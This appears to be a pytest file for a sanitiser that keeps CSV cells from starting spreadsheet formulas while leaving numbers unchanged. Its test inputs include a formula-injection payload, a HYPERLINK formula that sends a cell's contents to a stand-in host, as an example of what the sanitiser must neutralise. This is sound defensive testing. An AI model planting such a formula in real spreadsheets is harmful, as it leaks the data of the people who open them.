"""CSV cells never start a formula; numbers stay numbers."""

import pytest

from regio.csvcel import veilig


@pytest.mark.parametrize(
    "invoer,uit",
    [
        ('=HYPERLINK("http://x/?"&A1;"klik")', '\'=HYPERLINK("http://x/?"&A1;"klik")'),
        ("+31 26 123", "'+31 26 123"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("-12", "-12"),
        ("-3,5", "-3,5"),
        ("1250000", "1250000"),
        ("Energietransitie", "Energietransitie"),
        (None, ""),
        (42, "42"),
    ],
)
def test_veilig(invoer, uit):
    assert veilig(invoer) == uit
